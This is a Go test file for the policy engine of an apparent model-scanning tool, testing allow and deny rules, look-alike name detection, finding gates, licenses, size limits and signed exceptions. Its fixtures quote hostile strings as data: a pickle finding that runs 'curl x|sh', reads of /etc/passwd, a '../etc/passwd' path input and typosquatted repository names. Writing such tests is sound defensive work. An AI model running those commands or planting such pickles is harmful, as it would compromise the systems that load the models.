package policy

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/aigis-sec/aigis/finding"
)

var now = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)

func codes(d Decision) []string {
	var out []string
	for _, r := range d.Reasons {
		out = append(out, r.Code)
	}
	return out
}

func mk(rule string, sev finding.Severity, path, msg string) finding.Finding {
	return finding.Finding{RuleID: rule, Severity: sev, Path: path, Message: msg}
}

const commitA = "0123456789abcdef0123456789abcdef01234567"
const commitB = "89abcdef0123456789abcdef0123456789abcdef"

// One table for every rule of the file: each key has a case it refuses
// and a case it lets through.
func TestEvaluateRules(t *testing.T) {
	base := Input{RepoID: "acme/bert", RepoType: "model", Source: SourceUpstream, Commit: commitA, License: "apache-2.0", Now: now,
		Files: []File{{"config.json", 700}, {"model.safetensors", 400 << 20}}}
	with := func(f func(*Input)) Input { in := base; f(&in); return in }
	tests := []struct {
		name   string
		policy string // appended to the header
		in     Input
		want   []string // reason codes; nil = allowed
	}{
		{"sources allow: listed", "sources:\n  upstream:\n    allow: [\"acme/*\"]\n", base, nil},
		{"sources allow: not listed", "sources:\n  upstream:\n    allow: [\"google/*\"]\n", base, []string{CodeSourceDenied}},
		{"sources deny wins over allow", "sources:\n  upstream:\n    allow: [\"acme/*\"]\n    deny: [\"*/*-uncensored\"]\n",
			with(func(in *Input) { in.RepoID = "acme/bert-Uncensored" }), []string{CodeSourceDenied}},
		{"sources per source", "sources:\n  internal:\n    allow: [\"acme/*\"]\n",
			with(func(in *Input) { in.RepoID = "other/x" }), nil},
		{"sources internal refused", "sources:\n  internal:\n    allow: [\"acme/*\"]\n",
			with(func(in *Input) { in.RepoID = "other/x"; in.Source = SourceInternal }), []string{CodeSourceDenied}},
		{"unknown source", "", with(func(in *Input) { in.Source = "ftp" }), []string{CodeSourceDenied}},

		{"lookalikes block", "lookalikes: block\n", with(func(in *Input) { in.RepoID = "meta-lIama/Llama-3.1-8B" }), []string{CodeLookalike}},
		{"lookalikes block: the real one", "lookalikes: block\n", with(func(in *Input) { in.RepoID = "meta-llama/Llama-3.1-8B" }), nil},
		{"lookalikes warn", "lookalikes: warn\n", with(func(in *Input) { in.RepoID = "meta-lIama/Llama-3.1-8B" }), nil},
		{"lookalikes off", "lookalikes: off\n", with(func(in *Input) { in.RepoID = "meta-lIama/Llama-3.1-8B" }), nil},

		{"fail_on high: a high finding", "gate:\n  fail_on: high\n",
			with(func(in *Input) {
				in.Findings = []finding.Finding{mk("pickle-file-access", finding.High, "m.bin", "io.open")}
			}), []string{CodeFindings}},
		{"fail_on high: a medium finding", "gate:\n  fail_on: high\n",
			with(func(in *Input) {
				in.Findings = []finding.Finding{mk("pickle-unknown-callable", finding.Medium, "m.bin", "x.Y")}
			}), nil},
		{"fail_on medium: a medium finding", "gate:\n  fail_on: medium\n",
			with(func(in *Input) {
				in.Findings = []finding.Finding{mk("pickle-unknown-callable", finding.Medium, "m.bin", "x.Y")}
			}), []string{CodeFindings}},
		{"ignore_rules", "gate:\n  ignore_rules: [pickle-file-access]\n",
			with(func(in *Input) {
				in.Findings = []finding.Finding{mk("pickle-file-access", finding.High, "m.bin", "io.open")}
			}), nil},
		{"ignore_rules: another rule still gates", "gate:\n  ignore_rules: [pickle-network]\n",
			with(func(in *Input) {
				in.Findings = []finding.Finding{mk("pickle-file-access", finding.High, "m.bin", "io.open")}
			}), []string{CodeFindings}},
		{"incomplete quarantine", "gate:\n  incomplete: quarantine\n", with(func(in *Input) { in.Incomplete = true }), []string{CodeIncomplete}},
		{"incomplete allow", "gate:\n  incomplete: allow\n", with(func(in *Input) { in.Incomplete = true }), nil},

		{"licenses allow: listed, case-insensitive", "licenses:\n  allow: [apache-2.0, mit]\n", with(func(in *Input) { in.License = "Apache-2.0" }), nil},
		{"licenses allow: not listed", "licenses:\n  allow: [apache-2.0, mit]\n", with(func(in *Input) { in.License = "cc-by-nc-4.0" }), []string{CodeLicense}},
		{"licenses: no license, allow list defaults to quarantine", "licenses:\n  allow: [apache-2.0]\n", with(func(in *Input) { in.License = "" }), []string{CodeLicense}},
		{"licenses unknown allow", "licenses:\n  allow: [apache-2.0]\n  unknown: allow\n", with(func(in *Input) { in.License = "" }), nil},
		{"licenses unknown quarantine without list", "licenses:\n  unknown: quarantine\n", with(func(in *Input) { in.License = "" }), []string{CodeLicense}},
		{"licenses: no list, any license", "", with(func(in *Input) { in.License = "wtfpl" }), nil},

		{"max_file_size over", "limits:\n  max_file_size: 100MiB\n", base, []string{CodeSizeLimit}},
		{"max_file_size under", "limits:\n  max_file_size: 1GiB\n", base, nil},
		{"max_total_size over", "limits:\n  max_total_size: 400MiB\n", base, []string{CodeSizeLimit}},
		{"max_total_size exact", "limits:\n  max_total_size: 419431100B\n", base, nil},
		{"max_files over", "limits:\n  max_files: 1\n", base, []string{CodeFileCount}},
		{"max_files at", "limits:\n  max_files: 2\n", base, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := mustParse(t, "apiVersion: aigis/v1\nversion: t\n"+tt.policy)
			d := p.Evaluate(tt.in)
			if diff := cmp.Diff(tt.want, codes(d)); diff != "" {
				t.Errorf("reasons (-want +got):\n%s\n%+v", diff, d.Reasons)
			}
			if d.Allow != (len(tt.want) == 0) {
				t.Errorf("Allow = %v with reasons %v", d.Allow, codes(d))
			}
			if d.PolicyVersion != p.Version() {
				t.Errorf("PolicyVersion = %q, want %q", d.PolicyVersion, p.Version())
			}
			for _, r := range d.Reasons {
				if len(r.Message) < 40 {
					t.Errorf("reason %s has no useful message: %q", r.Code, r.Message)
				}
			}
		})
	}
}

func TestLookalikeWarnAndMessages(t *testing.T) {
	in := Input{RepoID: "meta-lIama/Llama-3.1-8B", Source: SourceUpstream, Now: now}
	block := mustParse(t, "apiVersion: aigis/v1\nversion: t\n").Evaluate(in)
	if len(block.Reasons) != 1 || !strings.Contains(block.Reasons[0].Message, `meta-lIama/Llama-3.1-8B looks like meta-llama/Llama-3.1-8B`) ||
		!slices.Equal(block.Reasons[0].Rules, []string{RuleLookalike}) {
		t.Errorf("block reasons = %+v", block.Reasons)
	}
	warn := mustParse(t, "apiVersion: aigis/v1\nversion: t\nlookalikes: warn\n").Evaluate(in)
	if !warn.Allow || len(warn.Warnings) != 1 || !strings.Contains(warn.Warnings[0], "looks like meta-llama/Llama-3.1-8B") {
		t.Errorf("warn = %+v", warn)
	}
	// The scanner's own model-lookalike-name finding for the repository's
	// id follows the lookalikes key instead of gating twice.
	in.Findings = []finding.Finding{{RuleID: RuleLookalike, Severity: finding.High, Path: "config.json", Message: "…",
		Evidence: map[string]string{"model_id": "meta-lIama/Llama-3.1-8B"}}}
	if d := mustParse(t, "apiVersion: aigis/v1\nversion: t\nlookalikes: off\n").Evaluate(in); !d.Allow {
		t.Errorf("lookalikes: off still refuses: %+v", d.Reasons)
	}
	// A config.json naming another look-alike base model is a finding.
	in.Findings[0].Evidence["model_id"] = "rneta-llama/Llama-2-7b"
	if d := mustParse(t, "apiVersion: aigis/v1\nversion: t\nlookalikes: off\n").Evaluate(in); d.Allow || codes(d)[0] != CodeFindings {
		t.Errorf("a look-alike base model in config.json does not gate: %+v", d)
	}
}

func TestFindingsMessage(t *testing.T) {
	p := mustParse(t, "apiVersion: aigis/v1\nversion: t\n")
	d := p.Evaluate(Input{RepoID: "acme/bert", Source: SourceUpstream, Now: now, Findings: []finding.Finding{
		mk("pickle-file-access", finding.High, "b.bin", "io.open('/etc/passwd') is called"),
		mk("pickle-code-execution", finding.Critical, "pytorch_model.bin", "posix.system('curl x|sh') is called when the file is loaded"),
		{RuleID: "pickle-network", Severity: finding.High, Path: "a.zip", Member: "data.pkl", Message: "socket.create_connection"},
		mk("pickle-file-access", finding.High, "c.bin", "io.open"),
		mk("pickle-format", finding.Info, "c.bin", "pickle"),
	}})
	want := Reason{Code: CodeFindings, Rules: []string{"pickle-code-execution", "pickle-file-access", "pickle-network"},
		Message: "1 critical and 3 high findings at or above the gate (high) (" +
			"pickle-code-execution in pytorch_model.bin: posix.system('curl x|sh') is called when the file is loaded; " +
			"pickle-network in a.zip!data.pkl: socket.create_connection; " +
			"pickle-file-access in b.bin: io.open('/etc/passwd') is called; and 1 more) — see the findings page; " +
			"if they are reviewed and safe, an admin can add an exception for rules pickle-code-execution, pickle-file-access, pickle-network in the policy file"}
	if diff := cmp.Diff([]Reason{want}, d.Reasons); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestExceptions(t *testing.T) {
	p := mustParse(t, `apiVersion: aigis/v1
version: t
exceptions:
  - repo: acme/legacy
    commit: "`+commitA+`"
    rules: [pickle-stdlib-callable]
    reason: "reviewed: SEC-42"
    expires: 2027-01-31
    approved_by: "user:carol"
  - repo: acme/all
    reason: "vendor model, SEC-7"
    expires: 2026-11-30
    approved_by: "user:dave"
  - repo: acme/old
    reason: "SEC-1"
    expires: 2026-11-21
    approved_by: "user:erin"
`)
	stdlib := mk("pickle-stdlib-callable", finding.High, "model.bin", "shutil.copy")
	network := mk("pickle-network", finding.High, "model.bin", "socket.socket")
	tests := []struct {
		name     string
		in       Input
		want     []string
		waived   []Waiver
		expired  int
		warnings int
	}{
		{"commit and rule match", Input{RepoID: "acme/legacy", Commit: commitA, Findings: []finding.Finding{stdlib}}, nil,
			[]Waiver{{Rule: "pickle-stdlib-callable", Path: "model.bin", Reason: "reviewed: SEC-42", ApprovedBy: "user:carol", Expires: "2027-01-31", Line: 4}}, 0, 0},
		{"repo matched case-insensitively, commit too", Input{RepoID: "ACME/Legacy", Commit: strings.ToUpper(commitA), Findings: []finding.Finding{stdlib}}, nil,
			[]Waiver{{Rule: "pickle-stdlib-callable", Path: "model.bin", Reason: "reviewed: SEC-42", ApprovedBy: "user:carol", Expires: "2027-01-31", Line: 4}}, 0, 0},
		{"another commit", Input{RepoID: "acme/legacy", Commit: commitB, Findings: []finding.Finding{stdlib}}, []string{CodeFindings}, nil, 0, 0},
		{"another rule", Input{RepoID: "acme/legacy", Commit: commitA, Findings: []finding.Finding{stdlib, network}}, []string{CodeFindings},
			[]Waiver{{Rule: "pickle-stdlib-callable", Path: "model.bin", Reason: "reviewed: SEC-42", ApprovedBy: "user:carol", Expires: "2027-01-31", Line: 4}}, 0, 0},
		{"another repo", Input{RepoID: "acme/legacy2", Commit: commitA, Findings: []finding.Finding{stdlib}}, []string{CodeFindings}, nil, 0, 0},
		{"all rules, any commit, expiring soon", Input{RepoID: "acme/all", Commit: commitB, Findings: []finding.Finding{stdlib, network}}, nil,
			[]Waiver{
				{Rule: "pickle-stdlib-callable", Path: "model.bin", Reason: "vendor model, SEC-7", ApprovedBy: "user:dave", Expires: "2026-11-30", Line: 10},
				{Rule: "pickle-network", Path: "model.bin", Reason: "vendor model, SEC-7", ApprovedBy: "user:dave", Expires: "2026-11-30", Line: 10},
			}, 0, 1},
		{"expired: not applied and listed", Input{RepoID: "acme/old", Findings: []finding.Finding{stdlib}}, []string{CodeFindings}, nil, 1, 0},
		{"expired but nothing to waive: still listed", Input{RepoID: "acme/old"}, nil, nil, 1, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.in.Source, tt.in.Now = SourceUpstream, now
			d := p.Evaluate(tt.in)
			if diff := cmp.Diff(tt.want, codes(d)); diff != "" {
				t.Errorf("reasons (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.waived, d.Waived); diff != "" {
				t.Errorf("waived (-want +got):\n%s", diff)
			}
			if len(d.ExpiredExceptions) != tt.expired || len(d.Warnings) != tt.warnings {
				t.Errorf("expired %q warnings %q", d.ExpiredExceptions, d.Warnings)
			}
		})
	}
	// The day named in expires is still covered (UTC); the next is not.
	in := Input{RepoID: "acme/legacy", Commit: commitA, Source: SourceUpstream, Findings: []finding.Finding{stdlib}}
	in.Now = time.Date(2027, 1, 31, 23, 59, 59, 0, time.UTC)
	if d := p.Evaluate(in); !d.Allow {
		t.Errorf("exception not applied on its last day: %v", d.Reasons)
	}
	in.Now = time.Date(2027, 2, 1, 0, 0, 0, 0, time.UTC)
	d := p.Evaluate(in)
	if d.Allow || len(d.ExpiredExceptions) != 1 || !strings.Contains(d.ExpiredExceptions[0], "is past its expiry (expires: 2027-01-31)") {
		t.Errorf("exception applied after expiry: %+v", d)
	}
	// A zero Now fails closed.
	in.Now = time.Time{}
	if d := p.Evaluate(in); d.Allow {
		t.Errorf("zero Now applied an exception")
	}
}

func TestExceptionWaivesLookalike(t *testing.T) {
	p := mustParse(t, `apiVersion: aigis/v1
version: t
exceptions:
  - repo: meta-lIama/Llama-3.1-8B
    rules: [model-lookalike-name]
    reason: "our red-team fixture"
    expires: 2027-01-31
    approved_by: "user:carol"
`)
	d := p.Evaluate(Input{RepoID: "meta-lIama/Llama-3.1-8B", Source: SourceInternal, Now: now})
	if !d.Allow || len(d.Waived) != 1 || d.Waived[0].Rule != RuleLookalike {
		t.Errorf("decision = %+v", d)
	}
}

// Reasons come in one fixed order whatever the input order, and the same
// input gives the same decision.
func TestEvaluateOrderAndDeterminism(t *testing.T) {
	p, err := Load(examplePath)
	if err != nil {
		t.Fatal(err)
	}
	in := Input{RepoID: "acme/x-uncensored", Source: SourceUpstream, Commit: commitA, Now: now, Incomplete: true,
		Files: []File{{"a.bin", 200 << 30}, {"b.bin", 150 << 30}, {"c.bin", 160 << 30}, {"d.bin", 101 << 30}},
		Findings: []finding.Finding{
			mk("pickle-network", finding.High, "b.bin", "socket"),
			mk("pickle-code-execution", finding.Critical, "a.bin", "os.system"),
			mk("scan-limit", finding.Info, "b.bin", "the pickle has more than 1000000 opcodes"),
			mk("scan-limit", finding.Info, "a.bin", "the archive has more than 10000 members"),
		},
		Signature: &SignatureResult{Method: "key", Error: "model.sig does not verify: not by key keys/acme-release.pub"}}
	d := p.Evaluate(in)
	want := []string{CodeSourceDenied, CodeSignatureInvalid, CodeFindings, CodeIncomplete, CodeLicense, CodeSizeLimit, CodeSizeLimit}
	if diff := cmp.Diff(want, codes(d)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if !strings.Contains(d.Reasons[3].Message, "(a.bin: the archive has more than 10000 members; b.bin: the pickle has more than 1000000 opcodes)") {
		t.Errorf("incomplete message = %q", d.Reasons[3].Message)
	}
	if !strings.Contains(d.Reasons[5].Message, "4 files are larger than the policy's limits.max_file_size of 100 GiB: a.bin (200 GiB), c.bin (160 GiB), b.bin (150 GiB), and 1 more") {
		t.Errorf("size message = %q", d.Reasons[5].Message)
	}
	slices.Reverse(in.Findings)
	slices.Reverse(in.Files)
	if diff := cmp.Diff(d, p.Evaluate(in)); diff != "" {
		t.Errorf("input order changes the decision:\n%s", diff)
	}
}

func TestExamplePolicyDecisions(t *testing.T) {
	p, err := Load(examplePath)
	if err != nil {
		t.Fatal(err)
	}
	clean := Input{RepoID: "google/gemma-2b", Source: SourceUpstream, Commit: commitA, License: "gemma", Now: now,
		Files: []File{{"model.safetensors", 5 << 30}}}
	if d := p.Evaluate(clean); !d.Allow {
		t.Errorf("a clean allowed model is refused: %+v", d.Reasons)
	}
	// acme/* needs a signature; the experimental ones do not.
	acme := clean
	acme.RepoID, acme.License = "acme/bert", "mit"
	d := p.Evaluate(acme)
	if diff := cmp.Diff([]string{CodeSignatureMissing}, codes(d)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	} else if !strings.Contains(d.Reasons[0].Message, "the key keys/acme-release.pub or a certificate issued by keys/acme-ca.pem to release@acme.example or Sigstore identity") {
		t.Errorf("message = %q", d.Reasons[0].Message)
	}
	acme.Signature = &SignatureResult{Verified: true, Method: "key", Signer: "key keys/acme-release.pub", File: "model.sig"}
	if d := p.Evaluate(acme); !d.Allow {
		t.Errorf("a signed acme model is refused: %+v", d.Reasons)
	}
	exp := clean
	exp.RepoID = "acme/experimental-7b"
	if d := p.Evaluate(exp); !d.Allow {
		t.Errorf("experimental model is refused: %+v", d.Reasons)
	}
	// The expired exception is reported.
	old := clean
	old.RepoID = "acme/old-classifier"
	old.Signature = acme.Signature
	if d := p.Evaluate(old); !d.Allow || len(d.ExpiredExceptions) != 1 || !strings.Contains(d.ExpiredExceptions[0], "acme/old-classifier") {
		t.Errorf("decision = %+v", d)
	}
	// Not on the allow list, not fetched.
	if ok, msg := p.AllowSource("someone/model", SourceUpstream); ok || !strings.Contains(msg, "ask an admin to add it to sources.upstream.allow") {
		t.Errorf("AllowSource = %v, %q", ok, msg)
	}
	if ok, msg := p.AllowSource("acme/bert-abliterated", SourceUpstream); ok || !strings.Contains(msg, `sources.upstream.deny "*/*-abliterated", line 12`) {
		t.Errorf("AllowSource = %v, %q", ok, msg)
	}
	if ok, msg := p.AllowSource("Meta-Llama/Llama-3.1-8B", SourceUpstream); !ok || !strings.Contains(msg, `allowed by sources.upstream.allow "meta-llama/*"`) {
		t.Errorf("AllowSource = %v, %q", ok, msg)
	}
	if ok, _ := p.AllowSource("../etc/passwd", SourceUpstream); ok {
		t.Errorf("AllowSource accepts a path")
	}
}

func TestFormatSize(t *testing.T) {
	for n, want := range map[int64]string{0: "0 B", 1023: "1023 B", 1024: "1 KiB", 1536: "1.5 KiB", 100 << 30: "100 GiB", 1<<63 - 1: "8 EiB"} {
		if got := FormatSize(n); got != want {
			t.Errorf("FormatSize(%d) = %q, want %q", n, got, want)
		}
	}
}

// Decisions go into the audit log as JSON with stable snake_case keys.
func TestDecisionJSON(t *testing.T) {
	p := mustParse(t, "apiVersion: aigis/v1\nversion: t\n")
	d := p.Evaluate(Input{RepoID: "acme/bert", Source: SourceUpstream, Now: now,
		Findings: []finding.Finding{mk("pickle-network", finding.High, "m.bin", "socket")}})
	b, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	want := `{"allow":false,"reasons":[{"code":"findings","message":"1 high finding at or above the gate (high) (pickle-network in m.bin: socket) — see the findings page; if they are reviewed and safe, an admin can add an exception for rules pickle-network in the policy file","rules":["pickle-network"]}],"policy_version":"` + p.Version() + `"}`
	if string(b) != want {
		t.Errorf("JSON:\n%s\nwant\n%s", b, want)
	}
}

// lookalike_names protects the organisation's own names too.
func TestLookalikeNames(t *testing.T) {
	in := Input{RepoID: "acrne/bert-base", Source: SourceUpstream, Now: now}
	if d := mustParse(t, "apiVersion: aigis/v1\nversion: t\n").Evaluate(in); !d.Allow {
		t.Fatalf("acrne/bert-base refused without lookalike_names: %+v", d.Reasons)
	}
	p := mustParse(t, "apiVersion: aigis/v1\nversion: t\nlookalike_names: [acme, acme/bert-base]\n")
	d := p.Evaluate(in)
	if diff := cmp.Diff([]string{CodeLookalike}, codes(d)); diff != "" {
		t.Fatalf("(-want +got):\n%s", diff)
	}
	if !strings.Contains(d.Reasons[0].Message, "acrne/bert-base looks like acme/bert-base") {
		t.Errorf("message = %q", d.Reasons[0].Message)
	}
	// The real names, and the built-in list, still work.
	for id, allow := range map[string]bool{"acme/anything": true, "meta-lIama/Llama-3.1-8B": false} {
		if d := p.Evaluate(Input{RepoID: id, Source: SourceUpstream, Now: now}); d.Allow != allow {
			t.Errorf("%s: Allow = %v (%v)", id, d.Allow, d.Reasons)
		}
	}
	if _, err := Parse("p.yaml", []byte("apiVersion: aigis/v1\nversion: t\nlookalike_names: [\"acme corp\"]\n"), ""); err == nil ||
		!strings.Contains(err.Error(), `p.yaml:3: lookalike_names[0]: "acme corp" is not an organisation or org/model id`) {
		t.Errorf("err = %v", err)
	}
}
